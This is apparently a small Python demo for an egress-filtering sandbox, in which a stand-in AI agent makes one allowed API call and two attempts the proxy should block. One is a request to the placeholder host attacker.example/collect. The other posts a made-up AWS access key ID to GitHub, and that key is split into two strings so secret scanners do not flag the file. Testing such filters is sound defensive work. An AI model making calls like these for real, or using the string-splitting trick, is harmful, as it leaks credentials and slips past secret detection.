"""A tiny stand-in for an AI agent: one allowed call, one blocked host, one attempted leak.

It uses only the standard library, so any Python image runs it; the cage gives it
HTTPS_PROXY and the CA bundle through the environment.
"""

import json
import os
import urllib.error
import urllib.request


def call(
    label: str, url: str, data: bytes | None = None, headers: dict[str, str] | None = None
) -> None:
    request = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=15) as response:
            body = response.read(300).decode(errors="replace")
            print(f"[{label}] {response.status} {body!r}")
    except urllib.error.HTTPError as exc:
        print(f"[{label}] {exc.code} {exc.read(300).decode(errors='replace')!r}")
    except OSError as exc:
        print(f"[{label}] failed: {exc}")


key = os.environ.get("ANTHROPIC_API_KEY", "")
print(f"agent sees ANTHROPIC_API_KEY={key!r}")
call(
    "allowed: Anthropic API with placeholder",
    "https://api.anthropic.com/v1/messages",
    data=json.dumps({"model": "claude", "messages": []}).encode(),
    headers={"x-api-key": key, "content-type": "application/json"},
)
call("blocked: host not on the allowlist", "https://attacker.example/collect")
# A made-up AWS access key ID (AWS's own documentation key is deliberately let through,
# so the demo uses one that looks real). Built in two parts so this file is not itself flagged.
fake_aws_key = "AKIA" + "Z7VQ3XK2M4N5P6RT"
call(
    "blocked: a credential sent to the wrong host",
    "https://github.com/upload",
    data=f"aws_access_key_id={fake_aws_key}".encode(),
)
